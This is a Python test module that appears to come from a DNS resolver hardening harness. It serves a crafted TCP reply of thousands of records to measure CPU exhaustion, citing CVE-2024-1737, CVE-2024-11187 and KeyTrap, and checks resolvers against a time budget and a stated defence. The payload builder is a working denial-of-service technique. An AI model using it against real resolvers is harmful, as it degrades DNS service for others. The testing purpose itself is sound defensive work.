"""Decides the attack of a reply that is heavy: as many records as a message over TCP can hold, each at a name of its own.

Each of 20 questions gets one, in an order left to chance. A resolver that compares each record with each other spends
milliseconds on every packet of the attacker's; what it spends is taken from the kernel's account of its threads. What the
client gets must fit into a datagram as always.
"""

from __future__ import annotations

import itertools
import random
import socket
import string
import struct
from pathlib import Path

from stage import wire
from stage.attack import Attack, Result, Scene
from stage.targets import Berthd, Kresd, Unbound
from stage.zones import Asked, Servers

RECORDS, QUESTIONS = 3400, 20
ALLOWED_MS = 8.0  # of a core for one reply; sorted they take a few
UDP_MAX = 1232
AT_QUESTION = b"\xc0\x0c"


def heavy(asked: Asked, records: list[bytes]) -> bytes:
    head = struct.pack("!6H", asked.q.id, wire.QR | wire.AA, 1, 1 + len(records), 0, 0)
    return head + asked.q.question + wire.record(wire.a(AT_QUESTION, "198.19.7.7")) + b"".join(records)


def prepare(servers: Servers) -> None:
    labels = random.sample(sorted(set(itertools.product(string.ascii_lowercase, repeat=3))), RECORDS)
    records = [wire.record(wire.a(b"\3" + "".join(label).encode() + AT_QUESTION, "198.19.7.8")) for label in labels]
    records = records[:(65000 - 100) // len(records[0])]

    def speak(asked: Asked) -> None:
        if asked.tcp:
            asked.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
            asked.send(heavy(asked, records))
        else:
            asked.send(wire.response(asked.q, flags=wire.AA | wire.TC))

    servers.add("heavy.", speech=speak)


def cpu_ms(pid: int) -> float:
    """What all threads have spent so far."""
    files = Path("/proc/%d/task" % pid).glob("*/schedstat")
    return sum(int(file.read_text().split()[0]) for file in files) / 1e6


def run(scene: Scene) -> Result:
    before, longest, answered = cpu_ms(scene.target.pid), 0, 0
    for number in range(QUESTIONS):
        reply = scene.target.ask("h%d.heavy." % number, patience_s=2.0) or b""
        longest, answered = max(longest, len(reply)), answered + bool(reply and wire.addresses(reply))
    spent = (cpu_ms(scene.target.pid) - before) / QUESTIONS
    text = "%.1f ms of a core for each of %d replies of 64 KiB; %d answered, in at most %d bytes; allowed: %.0f ms, %d bytes" % (
        spent, QUESTIONS, answered, longest, ALLOWED_MS, UDP_MAX)
    return Result(spent > ALLOWED_MS or longest > UDP_MAX, text, {"ms": spent, "answered": answered, "bytes": longest})


ATTACK = Attack(
    name="heavy",
    title="replies of thousands of records, each at a name of its own",
    reference="CVE-2024-1737, CVE-2024-11187 (very many records); KeyTrap CVE-2023-50387 (very many signatures)",
    defence="at most 4,096 records of a reply, sorted before they are grouped",
    weakness="each record is compared with each other",
    prepare=prepare,
    run=run,
    shipped=Berthd,
    weakened=lambda: Berthd("slow-sort"),
    peers=[Unbound, Kresd],
    false_alarm="a machine four times slower than the author's would spend what is allowed",
)
